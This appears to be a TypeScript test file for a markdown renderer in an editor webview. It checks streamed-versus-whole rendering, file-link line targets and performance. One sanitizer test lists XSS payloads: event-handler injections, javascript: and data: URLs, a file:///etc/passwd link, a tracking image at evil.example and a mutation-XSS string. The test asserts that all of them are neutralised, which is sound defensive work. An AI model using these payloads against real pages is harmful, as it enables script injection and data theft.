import assert from "node:assert/strict";
import { after, before, describe, it } from "mocha";
import type { MarkdownPage } from "./page/markdownEntry.ts";
import { openPanelBrowser, type PanelBrowser, type PanelPage } from "./page/panelPage.ts";
import { ANSWER } from "./page/samples.ts";

type Api = { readonly markdown: MarkdownPage };

const DOCUMENTS = {
  answer: ANSWER,
  fences: "a\n\n```ts\nconst x = `1`;\n\n// ``` not a fence\n```\nb\n~~~\n```\n~~~\n\n````md\n```js\n1\n```\n````\nend",
  "an open fence": "text\n\n```py\nprint(1)\n  if x:\n``",
  lists: "- a\n- b\n\n  more\n\n  ```js\n  1\n  ```\n- c\n\n1. x\n2. y\n   - z\n\npara\n- tight\n+ other\n\n\n- loose",
  headings: "Title\n=====\n\ntext\n---\n\n# One #\n###### Six\n#not\n\n***\n- - -\n> quote\nlazy\n\n> > deep",
  tables: "| a | b |\n|:--|--:|\n| 1 | `x|y` |\n| 3 |\n\nafter | not | table\n",
  references:
    'See [a] and [b][x].\n\n[a]: https://example.org/a\n\nMore\n\n[x]: https://example.org/x "t"\n\nand [a] again',
  html: "<div>\n\n*x*\n\n</div>\n\na <b>bold</b> & <!-- no --> b\n\n<script>alert(1)</script>\n",
  indented: "para\n\n    code\n\n    more\n\npara\n\tnot code\n",
  endings: "a\r\nb\r\n\r\n```\r\nx\r\ny\r\n```\r\nlast\r",
  chinese: "**注意：**这里有`代码`。\n\n1. 第一\n2. 第二\n\n> 引用\n",
  blanks: "a\n\n\n\n\nb  \nc\\\nd\n   \n\n* * *\n",
  tasks: "- [x] done\n- [ ] open\n",
} as const;

function seeded(seed: number): () => number {
  let state = seed;
  return () => {
    state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
    return state / 2 ** 32;
  };
}

function pieces(text: string, random: () => number, most: number): string[] {
  const list: string[] = [];
  for (let at = 0; at < text.length; ) {
    const length = 1 + Math.floor(random() * most);
    list.push(text.slice(at, at + length));
    at += length;
  }
  return list;
}

describe("markdown", function () {
  this.timeout(60_000);
  let browser: PanelBrowser;
  let panel: PanelPage;
  before(async () => {
    browser = await openPanelBrowser("test/unit/webview/page/markdownEntry.ts");
    panel = await browser.open();
  });
  after(async () => {
    await panel?.close();
    await browser?.close();
  });

  const whole = (source: string) =>
    panel.page.evaluate((text) => (globalThis as unknown as Api).markdown.whole(text), source);

  for (const [name, source] of Object.entries(DOCUMENTS)) {
    it(`fed in random pieces ends as a full rendering: ${name}`, async () => {
      const runs = [1, 2, 3, 5, 8, 13, 21, 34].map((seed) => pieces(source, seeded(seed), seed === 1 ? 1 : seed));
      const [expected, results] = await panel.page.evaluate(
        ([text, lists]) => {
          const { markdown } = globalThis as unknown as Api;
          return [markdown.whole(text), lists.map((list) => markdown.streamed(list))] as const;
        },
        [source, runs] as const,
      );
      assert.ok(expected.length > 0);
      for (const result of results) assert.equal(result, expected);
    });
  }

  it("leaves no way for a model to run or load anything", async () => {
    const html = await whole(
      [
        "<img src=x onerror=alert(1)> <svg onload=alert(1)> <iframe src=//x></iframe><style>*{}</style>",
        "![track](https://evil.example/p.png?d=1) ![x](data:image/png;base64,AA) ![y](javascript:alert(1))",
        "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](command:workbench.action.quit) [d](vscode://x/y)",
        "[e](data:text/html,<script>alert(1)</script>) [f](file:///etc/passwd) [g](//evil.example) [h](\\\\evil\\s)",
        '[i](https://ok.example/"onmouseover="alert(1)) <https://ok.example/?a=1&b=2> <javascript:alert(1)>',
        '[j](x.ts "\\" onclick=alert(1) x=\\"") `<b onclick=1>`',
        '```"><img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```',
        '<a href="javascript:alert(1)" onclick="x">k</a><form action=x><input autofocus onfocus=alert(1)>',
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
        "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
      ].join("\n\n"),
    );
    const found = await panel.page.evaluate(() => {
      const nodes = [...document.querySelectorAll(".md *")];
      const allowed = new Set(
        "P,A,CODE,PRE,DIV,BUTTON,svg,path,SPAN,TABLE,THEAD,TBODY,TR,TH,TD,STRONG,EM,BR".split(","),
      );
      return {
        tags: nodes.map((node) => node.tagName).filter((tag) => !allowed.has(tag)),
        handlers: nodes
          .flatMap((node) => node.getAttributeNames())
          .filter((attr) => /^(on|href|src|style)/i.test(attr)),
        links: [...document.querySelectorAll<HTMLElement>(".md [role=link]")].map(({ dataset }) => ({ ...dataset })),
      };
    });
    assert.deepEqual(found.tags, [], html);
    assert.deepEqual(found.handlers, [], html);
    const targets = found.links.map(({ href, path }) => href ?? `file ${path}`);
    assert.deepEqual(targets, [
      "https://evil.example/p.png?d=1",
      'https://ok.example/"onmouseover="alert(1)',
      "https://ok.example/?a=1&b=2",
      "file x.ts",
    ]);
  });

  it("leads file links to their line", async () => {
    await whole("[a](src/a-b.ts:61) [b](docs/x%20y.md#L12-L20) [c](./c.md#intro) [d](x.ts:12-48)");
    const links = await panel.page.evaluate(() =>
      [...document.querySelectorAll<HTMLElement>(".md [role=link]")].map(({ dataset }) => [dataset.path, dataset.line]),
    );
    assert.deepEqual(links, [
      ["src/a-b.ts", "61"],
      ["docs/x y.md", "12"],
      ["./c.md", undefined],
      ["x.ts", "12"],
    ]);
  });

  it("draws a long answer and a long fence as if they had come whole", async () => {
    const paragraphs = Array.from({ length: 300 }, (_, i) => `Paragraph ${i} with \`code\` and **words** in it.\n\n`);
    const fence = [
      "```ts\n",
      ...Array.from({ length: 5000 }, (_, i) => `const value${i} = ${i} * 2; // line\n`),
      "```\n",
    ];
    for (const [name, list] of [
      ["answer", pieces(paragraphs.join(""), seeded(1), 20)],
      ["fence", fence],
    ] as const) {
      const timing = await panel.page.evaluate(
        (parts) => (globalThis as unknown as Api).markdown.timed(parts),
        list as string[],
      );
      assert.ok(timing.same, name);
    }
  });
});
